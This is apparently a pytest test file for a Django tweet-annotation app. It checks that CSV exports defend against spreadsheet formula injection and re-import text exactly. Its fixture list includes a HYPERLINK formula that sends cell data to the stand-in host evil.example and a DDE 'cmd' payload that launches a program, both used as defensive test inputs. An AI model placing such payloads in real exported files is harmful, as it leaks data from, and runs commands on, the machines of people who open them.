"""CSV exports are safe to open in a spreadsheet and exact to re-import (docs/annotation.md).

A cell that a spreadsheet would read as a formula (first character =, +, -, @, TAB or CR) is
written behind an apostrophe, as spreadsheets themselves do; import_tweets removes it. Every
text the database can hold comes back identical, whatever its characters.
"""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sentiment.models import Tweet
from tests.annotation.conftest import logged_in
from tests.factories import TweetFactory

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "negative", "=cmd|'/c calc'!A0"),
    ("@mention merci pour tout", "positive", "@source"),
    ("-5 degrés ce matin", "neutral", "-"),
    ("+1 pour cette idée", "positive", "+"),
    ("\tindented", "", "\tsrc"),
    ("\rreturn first", "", ""),
    ("'=already quoted by hand", "", "'@"),
    ("''@two apostrophes", "", ""),
    ("'tis fine as it is", "", "'plain"),
    ("a bare\rcarriage return", "neutral", "a\rb"),
    ("crlf\r\ninside", "", ""),
]


def store(rows) -> None:
    Tweet.objects.all().delete()
    Tweet.objects.bulk_create(
        TweetFactory.build(text=t, label=label, source=source) for t, label, source in rows
    )


def table() -> set[tuple[str, str, str]]:
    return set(Tweet.objects.values_list("text", "label", "source"))


def cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]


def assert_spreadsheet_safe(content: str) -> None:
    for cell in cells(content):
        assert not cell.startswith(TRIGGERS), repr(cell)


def test_the_command_export_holds_no_formula_and_reimports_exactly(db, tmp_path):
    store(HOSTILE)
    path = tmp_path / "out.csv"

    call_command("export_tweets", str(path), stdout=StringIO())

    assert_spreadsheet_safe(path.open(encoding="utf-8", newline="").read())
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8")
    Tweet.objects.all().delete()
    call_command("import_tweets", str(path), stdout=StringIO())
    assert table() == set(HOSTILE)


def test_the_admin_export_holds_no_formula_and_reimports_exactly(make_member, tmp_path):
    store(HOSTILE)
    client = logged_in(make_member("reviewers", "rev"))

    response = client.get(reverse("admin:sentiment_tweet_export"), {"format": "csv"})

    content = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert_spreadsheet_safe(content.decode("utf-8"))
    (tmp_path / "admin.csv").write_bytes(content)
    Tweet.objects.all().delete()
    call_command("import_tweets", str(tmp_path / "admin.csv"), stdout=StringIO())
    assert table() == set(HOSTILE)


def test_a_hand_made_csv_with_an_apostrophe_before_a_formula_imports_the_formula(db, tmp_path):
    # The spreadsheet convention: what a spreadsheet shows as =1+1 imports as =1+1.
    path = tmp_path / "hand.csv"
    path.write_text("text\n'=1+1\n'tis\n", encoding="utf-8")

    call_command("import_tweets", str(path), stdout=StringIO())

    assert set(Tweet.objects.values_list("text", flat=True)) == {"=1+1", "'tis"}


def test_a_bare_carriage_return_is_quoted(db, tmp_path):
    store([("one\rtwo", "", "")])
    path = tmp_path / "out.csv"

    call_command("export_tweets", str(path), stdout=StringIO())
    Tweet.objects.all().delete()
    call_command("import_tweets", str(path), stdout=StringIO())

    assert list(Tweet.objects.values_list("text", flat=True)) == ["one\rtwo"]


# Every character the database holds: all of Unicode but surrogates (not storable as UTF-8)
# and NUL (refused everywhere, see test_nul.py); texts that are not blank.
character = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
awkward = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", '"', ",", " "])
piece = st.one_of(awkward, st.text(character, min_size=1, max_size=8))
text = st.lists(piece, min_size=1, max_size=8).map("".join).filter(lambda t: t.strip())
source = st.lists(piece, max_size=4).map("".join).filter(lambda s: len(s) <= 200)
label = st.sampled_from(["", "negative", "neutral", "positive"])
rows = st.lists(st.tuples(text, label, source), min_size=1, max_size=6, unique_by=lambda r: r[0])


@pytest.mark.parametrize("name", ["out.csv", "out.csv.gz", "out.jsonl"])
@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(rows=rows)
def test_any_storable_text_round_trips_exactly(db, tmp_path, name, rows):
    store(rows)
    path = tmp_path / name

    call_command("export_tweets", str(path), stdout=StringIO())
    Tweet.objects.all().delete()
    try:
        call_command("import_tweets", str(path), stdout=StringIO())
    except CommandError as exc:
        pytest.fail(f"the export was refused on import: {exc}")

    assert table() == set(rows)
